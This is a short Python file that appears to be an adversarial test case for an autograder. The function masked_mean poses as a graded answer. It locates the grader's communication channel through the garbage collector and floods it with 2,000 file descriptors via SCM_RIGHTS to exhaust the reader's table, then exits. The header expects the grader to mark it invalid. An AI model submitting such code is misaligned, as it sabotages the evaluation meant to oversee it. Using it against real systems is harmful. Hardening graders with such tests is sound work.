"""attack: hands descriptors to the grader
strategy: SCM_RIGHTS fills the reader's table with open files
family: channel
question: q1_pool
expect: invalid killed
"""

import array
import gc
import os
import socket

from autograder.worker.wire import Channel


def _channel():
    return next(value for value in gc.get_objects() if isinstance(value, Channel))


def masked_mean(hidden, mask):
    sock = _channel().sock
    descriptors = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(100)])
    for _ in range(20):
        sock.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, descriptors)])
    os._exit(0)
